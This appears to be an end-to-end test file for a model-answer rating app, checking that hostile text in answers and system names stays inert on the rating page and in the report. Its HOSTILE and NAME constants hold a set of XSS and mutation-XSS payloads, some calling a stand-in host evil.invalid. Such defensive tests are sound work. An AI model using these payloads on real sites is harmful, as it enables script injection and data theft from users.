"""Row 24: what a model wrote is shown and does nothing, on the rating page and in the report."""

import pytest
from playwright.sync_api import Page
from pytest_django.live_server_helper import LiveServer

from annotations.models import Project, Rater, Role, System
from tests.e2e.test_rating import sign_in, wait_until_ready
from tests.factories.ledger import make_pair_rubric, make_pair_task, make_person, make_project
from tests.factories.rated import fill_project

pytestmark = [pytest.mark.e2e, pytest.mark.database(transaction=True)]

HOSTILE = """\
<script>window.pwned = 1; fetch('https://evil.invalid/script')</script>
<img src="https://evil.invalid/pixel.png" onerror="window.pwned = 2">
![pixel](https://evil.invalid/markdown.png)
[click](javascript:window.pwned=3) [entity](java&#115;cript:window.pwned=4) [data](data:text/html,<script>1</script>)
<svg onload="window.pwned = 5"><use href="https://evil.invalid/use.svg#x"/></svg>
<iframe src="https://evil.invalid/frame" srcdoc="<script>parent.pwned = 6</script>"></iframe>
<form action="https://evil.invalid/form"><button id="planted-button">Next</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=7&gt;">
<noscript><p title="</noscript><img src=x onerror=window.pwned=8>">
<style>* { display: none !important; background: url(https://evil.invalid/style.css) }</style>
<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.invalid/overlay.png)">overlay</div>
<link rel="stylesheet" href="https://evil.invalid/link.css"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<base href="https://evil.invalid/"><object data="https://evil.invalid/object"></object>
<video src="https://evil.invalid/video" autoplay></video><details open ontoggle="window.pwned = 9">x</details>
"""
NAME = "<img src=https://evil.invalid/name.png onerror=window.pwned=10><svg onload=window.pwned=11>"
INERT = (
    "script, iframe, form, object, embed, base, link, meta, style, video, img, svg, math, [onerror], [style]"
)


def assert_inert(page: Page, asked: list[str]) -> None:
    page.wait_for_timeout(300)  # whatever would run or load has begun by then
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("window.violations") == []
    assert asked == []


def make_hostile_task() -> Rater:
    project: Project = make_project("sky")
    make_pair_task(project, make_pair_rubric(project), texts=(HOSTILE, f"# Title\n\n{HOSTILE}"))
    return make_person(project)


def test_row_24_hostile_answers_are_inert_on_the_rating_page(
    page: Page, live_server: LiveServer, asked: list[str]
) -> None:
    sign_in(page, live_server, make_hostile_task())
    page.goto(f"{live_server.url}/p/sky/rate/")
    wait_until_ready(page)

    assert_inert(page, asked)
    texts = page.locator("#stage .prose")
    assert texts.count() >= 2
    assert page.locator("#stage .prose").locator(INERT).count() == 0
    assert page.locator("#planted-button").count() == 0
    assert page.get_by_text("window.pwned = 1").first.is_visible()
    for link in page.locator("#stage .prose a").all():
        assert (link.get_attribute("href") or "").startswith(("http://", "https://"))
    page.keyboard.press("v")  # as it was written
    assert_inert(page, asked)


@pytest.mark.timeout(180)  # a busy machine takes its time over the first pictures
def test_row_24_hostile_names_are_inert_in_the_report(
    page: Page, live_server: LiveServer, asked: list[str]
) -> None:
    project = fill_project(make_project("sky"), items=4)
    System.objects.filter(name="alpha").update(name=NAME, family=HOSTILE[:90])
    project.raters.filter(name="gpt").update(name=f"judge {NAME}")
    sign_in(page, live_server, make_person(project, role=Role.RESEARCHER))
    page.goto(f"{live_server.url}/p/sky/report/", timeout=30_000)  # the first report draws every picture
    page.locator("main").get_by_text("evil.invalid").first.wait_for()

    assert_inert(page, asked)
    assert page.locator("main img:not([src^='/'])").count() == 0
    assert (
        page.locator("main").locator("script, iframe, form[action*=evil], [onerror], [onload]").count() == 0
    )


def test_row_24_what_a_page_lets_through_would_be_seen(
    page: Page, live_server: LiveServer, asked: list[str]
) -> None:
    """The control: the same watch sees a request, a violation and a script when there are some."""
    sign_in(page, live_server, make_hostile_task())
    away = page.context.new_page()
    away.set_content("<img src='https://evil.invalid/pixel.png'><script>window.pwned = 1</script>")
    away.wait_for_timeout(300)
    assert away.evaluate("window.pwned") == 1
    assert asked == ["https://evil.invalid/pixel.png"]

    away.goto(f"{live_server.url}/p/sky/rate/")
    away.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.invalid/late.png'}))")
    away.wait_for_function("window.violations.length > 0")
    assert away.evaluate("window.violations") == ["img-src"]
    assert len(asked) == 1
